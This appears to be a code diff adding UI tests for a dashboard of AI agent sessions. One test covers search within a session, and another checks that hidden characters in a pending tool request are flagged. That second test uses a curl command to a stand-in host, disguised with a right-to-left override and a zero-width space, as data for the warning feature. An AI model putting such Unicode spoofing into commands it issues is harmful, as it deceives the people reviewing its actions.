@@ -1,6 +1,6 @@
 import { expect } from 'vitest';
 import { test } from './dashboard.js';
-import { assistant } from './said.js';
+import { assistant, toolCall } from './said.js';
 import { scriptedSession } from './scripted-runner.js';
 
 const long =
@@ -99,4 +99,68 @@ test('no tool goes by its name for programs in the palette, nor what waits for a
   await page.keyboard.press('Control+K');
   await page.getByRole('option', { name: 'Plan: Move the orders' }).waitFor();
   expect(await page.getByText('ExitPlanMode').count()).toBe(0);
+});
+
+test('find counts places, not lines, and steps through each of them, also within a box that scrolls', async ({
+  fleet,
+  open,
+}) => {
+  const { id, held } = await scriptedSession(fleet, { prompt: 'look for it', cwd: '/code/needles' });
+  const rows = Array.from({ length: 400 }, (_, row) => (row % 150 === 10 ? `needle ${row}` : `row ${row}`));
+  await held.say(
+    assistant('A needle a, **and** a needle b.'),
+    ...toolCall('Bash print', 'Bash', { command: 'print' }, rows.join('\n')),
+    assistant('The needle c.'),
+  );
+  const dashboard = await open({ viewport: { width: 1_440, height: 900 } });
+  const { page } = dashboard;
+  await dashboard.enterSession(fleet.key, id);
+  await dashboard.inSight('The needle c.');
+  await page.keyboard.press('Control+f');
+  await page.getByRole('searchbox', { name: 'Find in session' }).fill('needle');
+  /** What stands where one is, where it is in sight of its box and of the conversation. */
+  const here = () =>
+    page.evaluate(() => {
+      const [place] = [...(CSS.highlights.get('found-here') ?? [])];
+      const node = place?.startContainer;
+      if (!place || !node?.parentElement) return undefined;
+      const range = document.createRange();
+      range.setStart(node, place.startOffset);
+      range.setEnd(place.endContainer, place.endOffset);
+      const { top, bottom } = range.getBoundingClientRect();
+      for (let box: Element | null = node.parentElement; box; box = box.parentElement) {
+        if (box.scrollHeight <= box.clientHeight || getComputedStyle(box).overflowY === 'visible') continue;
+        const frame = box.getBoundingClientRect();
+        if (top < frame.top - 1 || bottom > frame.bottom + 1) return 'out of sight';
+      }
+      return node.nodeValue?.slice(place.startOffset).split(/[\n,.]/)[0];
+    });
+  await page.getByText('6 of 6', { exact: true }).waitFor();
+  await expect.poll(here).toBe('needle c');
+  const inOrder = ['needle a', 'needle b', 'needle 10', 'needle 160', 'needle 310', 'needle c'];
+  for (const [at, words] of inOrder.entries()) {
+    await page.keyboard.press('Enter');
+    await page.getByText(`${at + 1} of 6`, { exact: true }).waitFor();
+    await expect.poll(here).toBe(words);
+  }
+  await page.keyboard.press('Shift+Enter');
+  await page.getByText('5 of 6', { exact: true }).waitFor();
+  await expect.poll(here).toBe('needle 310');
+});
+
+test('what the bar above the composer says of a tool out of sight has its hidden characters marked', async ({
+  fleet,
+  open,
+}) => {
+  const { id, held } = await scriptedSession(fleet, { prompt: 'ask far above', cwd: '/code/bar' });
+  const command = 'curl a.example/\u202Esh.exe\u200B';
+  await held.ask({ tool: 'Bash', message: `Bash ${command}`, input: { command } });
+  await held.say(...Array.from({ length: 80 }, (_, line) => assistant(`Line ${line}.`)));
+  const dashboard = await open({ viewport: { width: 1_440, height: 900 } });
+  await dashboard.enterSession(fleet.key, id);
+  const bar = dashboard.page.getByText('1 tool waits for you').locator('..');
+  await expect
+    .poll(() => bar.locator('.hidden-character').allInnerTexts())
+    .toEqual(['right-to-left override', 'zero width space']);
+  expect(await bar.innerText()).toContain('Bash curl a.example/');
 });
